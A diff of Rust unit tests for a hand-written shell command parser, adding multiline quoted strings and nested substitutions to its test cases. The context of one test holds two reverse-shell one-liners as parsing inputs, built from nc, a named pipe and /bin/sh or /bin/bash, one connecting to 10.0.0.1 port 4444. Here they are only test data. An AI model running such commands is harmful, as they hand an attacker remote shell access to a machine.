@@ -150,6 +150,7 @@ fn hand_parser_takes_the_everyday_shapes() {
         "echo --opt=val -o\"x\" -o'y' a=b 'it''s' \"a\\\"b\" -1 08 1.5",
         "echo é ü=1 \"ß\" 'ø'",
         "echo \"$x $y\" \" \" \" $(a)\" \"${x}\t${y}\" $x$y \"$d\"/$f",
+        "git commit -m \"fix: x\n\n- one\n  - two \n\" \" \n b\" \"$x\n$y\"",
         "#!/bin/sh\n# c\nls # d\nfor i in a; do # e\n  b # f\ndone # g\na &&\n# h\nb",
     ];
     for line in taken {
@@ -175,7 +176,6 @@ fn hand_parser_declines_what_it_does_not_hold() {
         "a \\\nb",
         "X=(a b)",
         "X+=1",
-        "echo \"a\nb\"",
         "a;;b",
         "é=1 cmd",
         "f() { a; }",
@@ -232,6 +232,8 @@ fn hand_parser_agrees_where_it_once_differed() {
         "nc -l 9001 0</tmp/p | /bin/bash 1>/tmp/p",
         "mknod /tmp/b p && /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b",
         "x=1 > f",
+        "echo \"$(a | 'q s' \"\\ $(b) \")\"",
+        "('q s' rm \"$x\\ $y\" $x$y)",
     ];
     for line in lines {
         assert!(agrees(line).is_ok(), "{}", agrees(line).unwrap_err());
@@ -266,6 +268,8 @@ const WORDS: &[&str] = &[
     "$x$y",
     "'q'$z",
     "\"$d\"/$f",
+    "\"a\n  b \n\"",
+    "\" \n$x\n \"",
     "x=1",
     "\"a\\\"b\"",
     "''",
